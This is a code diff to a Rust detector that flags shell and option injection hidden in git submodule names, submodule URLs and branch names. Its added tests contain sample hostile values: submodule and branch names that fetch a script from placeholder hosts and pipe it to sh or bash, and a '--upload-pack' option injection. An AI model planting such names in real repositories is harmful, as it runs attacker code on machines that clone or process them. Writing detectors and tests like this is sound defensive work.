@@ -1,7 +1,7 @@
 //! # file-name
 //!
 //! ## What it does
-//! Reads the names of files and folders: shell syntax that waits for a script to paste the name, blanks of unusual width,
+//! Reads the names of files and folders, of submodules (`.gitmodules`) and of branches in exports of git data: shell syntax that waits for a script to paste the name, blanks of unusual width,
 //! and orders to an agent pressed into a name.
 //!
 //! ## Why it matters
@@ -15,7 +15,7 @@
 
 use super::Check;
 use super::command::{Trigger, judge};
-use super::prose::addresses_model;
+use super::prose::{addresses_model, after};
 use super::raise::Raise;
 use crate::document::{Document, Origin};
 use crate::registry::Meta;
@@ -110,7 +110,7 @@ impl Check for FileName {
 
     fn check(&self, document: &Document, _: &[Segment<'_>], out: &mut Vec<Signal>) {
         if document.origin != Origin::FileName {
-            return;
+            return listed(document, &mut Raise::new(document, &META, out));
         }
         let name = document.text.as_str();
         let whole = Span::of(0..name.len());
@@ -134,6 +134,32 @@ impl Check for FileName {
                 if name.contains(['$', '|', ';', '`']) { 0.9 } else { 0.45 },
                 reason,
             );
+        }
+    }
+}
+
+/// Names of submodules and branches that a text lists.
+fn listed(document: &Document, raise: &mut Raise<'_>) {
+    let text = &document.text;
+    if document.name().eq_ignore_ascii_case(".gitmodules") {
+        for line in text.lines() {
+            let Some((_, value)) = line.split_once(['"', '=']) else { continue };
+            let value = value.trim().trim_end_matches(['"', ']']);
+            let option = value.starts_with("--") || value.starts_with("ext::");
+            if let Some(strength) = if option { Some(0.93) } else { shell(value) } {
+                let at = value.as_ptr() as usize - text.as_ptr() as usize;
+                let reason = "names a submodule in a way that git or a script runs";
+                raise.at(ATTACK, Span::of(at..at + value.len()), strength, reason);
+            }
+        }
+    } else if ["json", "patch", "mbox", "eml", "txt", "log"].contains(&document.extension().as_str()) {
+        for at in memchr::memmem::find_iter(text.as_bytes(), b"refs/heads/").take(1000) {
+            let name = after(text, at + 11, 200);
+            let name = &name[..name.find(['"', '\n', ' ', ',']).unwrap_or(name.len())];
+            if let Some(strength) = shell(name) {
+                let reason = "names a branch that runs when a script pastes the name into a command";
+                raise.at(ATTACK, Span::of(at..at + 11 + name.len()), strength, reason);
+            }
         }
     }
 }
@@ -232,6 +258,32 @@ mod tests {
         ] {
             assert!(strongest(name) < 0.35, "{name}: {}", strongest(name));
         }
+    }
+
+    #[test]
+    fn names_of_submodules_and_branches() {
+        let read = |path: &str, text: &str| {
+            let document = Document::new(Origin::Worktree, path, text);
+            let mut out = Vec::new();
+            FileName.check(&document, &[], &mut out);
+            out.len()
+        };
+        assert_eq!(
+            read(
+                ".gitmodules",
+                "[submodule \"`wget -qO- https://s.invalid/x|sh`\"]\n\tpath = x\n\turl = --upload-pack=touch${IFS}canary\n"
+            ),
+            2
+        );
+        assert_eq!(read("push.json", "{\"ref\": \"refs/heads/fix-$(curl${IFS}-s${IFS}https://r.invalid/r|bash)\"}"), 1);
+        assert_eq!(
+            read(
+                ".gitmodules",
+                "[submodule \"a\"]\n\tpath = a\n\turl = https://git.example.com/a.git\n\tignore = all\n"
+            ),
+            0
+        );
+        assert_eq!(read("push.json", "{\"ref\": \"refs/heads/feature/agent-instructions\"}"), 0);
     }
 
     proptest! {
